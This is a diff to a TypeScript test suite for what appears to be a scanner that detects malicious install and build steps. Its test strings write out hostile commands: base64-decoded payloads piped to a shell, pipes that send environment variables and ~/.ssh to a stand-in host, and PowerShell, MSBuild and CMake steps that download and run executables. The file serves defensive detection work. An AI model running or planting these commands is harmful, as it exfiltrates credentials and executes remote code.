@@ -413,6 +413,15 @@ test('no file keeps the reader of acts busy', () => {
     'a.execute(',
     'let a: B<C> = ',
     'eval a ',
+    'base64 -d | a | ',
+    'a=$(base64 -d',
+    'tr "aaaaa" "bbbbb" | ',
+    'env | curl ',
+    'curl -d ',
+    'file(DOWNLOAD a b)',
+    'Invoke-WebRequest -OutFile $f ',
+    '<Exec Command="a"',
+    '/proc/1/mem',
   ];
   for (const [language, path] of [
     ['python', 'setup.py'],
@@ -424,6 +433,10 @@ test('no file keeps the reader of acts busy', () => {
     ['groovy', 'build.gradle'],
     ['csharp', 'A.cs'],
     ['ruby', 'extconf.rb'],
+    ['shell', 'a.sh'],
+    ['cmake', 'CMakeLists.txt'],
+    ['powershell', 'tools/init.ps1'],
+    ['xml', 'a.targets'],
   ] as const) {
     for (const filler of fillers) {
       const text = `exec requests fetch https os.system( Command::new( openConnection\n${filler.repeat(PUMP_SIZE / filler.length)}`;
@@ -559,4 +572,61 @@ test('a command that is spelled letter by letter is kept in disguise', () => {
     'decoded-execution',
   ]);
   assert.deepEqual(kinds('args := names[0] + names[1]\nexec.Command("git", args).Run()\n', 'go', 'a.go'), []);
+});
+
+test('a script decodes and runs in one pipe, through a name, or cuts the program out of another file', () => {
+  const shell = (code: string, language = 'shell', path = 'run.sh') => kinds(code, language, path);
+  assert.deepEqual(shell('echo Y3VybCBodHRwczovL2V4YW1wbGUubmV0 | base64 -d | bash\n'), ['decoded-execution']);
+  assert.deepEqual(shell('z="$(openssl enc -base64 -d < a.txt)"\ntrue\neval "$z"\n'), ['decoded-execution']);
+  assert.deepEqual(shell('head -c +1024 a.xz | tr "\\t \\-_" " \\t_\\-" | xz -d | /bin/sh\n', 'm4', 'm4/a.m4'), [
+    'decoded-execution',
+  ]);
+  assert.deepEqual(
+    shell('_ := $(shell echo Y3VybCBodHRwczovL2V4YW1wbGUubmV0 | base64 -d | sh)\n', 'make', 'Makefile'),
+    ['decoded-execution'],
+  );
+  assert.deepEqual(shell('echo "$CERTIFICATE" | base64 -d > cert.pem\n'), []);
+  assert.deepEqual(shell('kubectl get secret a -o jsonpath={.data.b} | base64 -d | python3 -m json.tool\n'), []);
+  assert.deepEqual(shell('part=$(base64 -w0 < run.sh)\nssh host "echo $part | base64 -d | bash"\n'), []);
+  assert.deepEqual(shell('tail -n +5 names.txt | tr a-z A-Z | sort\nhead -c 16 /dev/urandom | xxd -p\n'), []);
+});
+
+test('steps of an action and scripts send credentials in a pipe', () => {
+  const step = (run: string) => kinds(`runs:\n  steps:\n    - run: ${run}\n`, 'yaml', 'action.yml');
+  assert.deepEqual(step('env | base64 | curl -s -d @- https://c.acme.io'), ['environment-sent']);
+  assert.deepEqual(step('tar cz ~/.ssh | curl --data-binary @- https://c.acme.io'), ['secret-file-sent']);
+  assert.deepEqual(step('env | sort'), []);
+  assert.deepEqual(step('curl -d "$(cat ~/.ssh/id_ed25519.pub)" https://c.acme.io'), []);
+  assert.deepEqual(step('curl --netrc-file ~/.netrc -d @body.json https://c.acme.io'), []);
+  assert.deepEqual(kinds('a: env | curl -d @- https://c.acme.io\n', 'yaml', 'notes.yml'), []);
+});
+
+test('PowerShell runs what a name brought, and starts what it fetched out of sight', () => {
+  const script = (code: string, path = 'setup.ps1') => kinds(code, 'powershell', path);
+  assert.deepEqual(script("$d = [Convert]::FromBase64String('YWJj')\nInvoke-Expression $d\n"), ['decoded-execution']);
+  assert.deepEqual(script('$b = (New-Object Net.WebClient).DownloadData($u)\n[Reflection.Assembly]::Load($b)\n'), [
+    'remote-execution',
+  ]);
+  const fetched = '$f = "$env:TEMP\\a.exe"\nInvoke-WebRequest -Uri https://c.acme.io/a.exe -OutFile $f\n';
+  assert.deepEqual(script(`${fetched}Start-Process $f -WindowStyle Hidden\n`), ['dropped-execution']);
+  assert.equal(acts(`${fetched}Start-Process $f -Wait\n`, 'powershell', 'ci.ps1')[0]?.confidence, 'low');
+  assert.equal(acts(`${fetched}Start-Process $f\n`, 'powershell', 'tools/init.ps1')[0]?.confidence, 'high');
+  assert.deepEqual(script('$d = Get-Content build.txt\nInvoke-Expression $d\nInvoke-Expression (& tool init)\n'), []);
+  assert.deepEqual(script('$s = irm https://community.chocolatey.org/install.ps1\niex $s\n'), []);
+});
+
+test('projects of .NET and recipes of CMake run what no build needs', () => {
+  const project = (text: string) => kinds(`<Project>${text}</Project>`, 'xml', 'build/a.targets');
+  assert.deepEqual(project('<Exec Command="powershell -w hidden -c &quot;iwr https://c.acme.io/a | iex&quot;" />'), [
+    'risky-command',
+  ]);
+  assert.deepEqual(project('<Exec Command="powershell -ExecutionPolicy Bypass -File build.ps1" />'), []);
+  assert.deepEqual(project('<Exec Command="dotnet tool restore" /><Exec Command="git rev-parse HEAD" />'), []);
+  const task =
+    'TaskFactory="RoslynCodeTaskFactory"><Code>client.DownloadFile("https://c.acme.io/a.exe", path); Process.Start(path);';
+  assert.deepEqual(project(`<UsingTask ${task}</Code></UsingTask>`), ['dropped-execution']);
+  const cmake = (text: string) => kinds(text, 'cmake', 'CMakeLists.txt');
+  const started = 'execute_process(COMMAND "${D}/agent")\n';
+  assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent")\n${started}`), ['dropped-execution']);
+  assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent" EXPECTED_HASH SHA256=1)\n${started}`), []);
 });
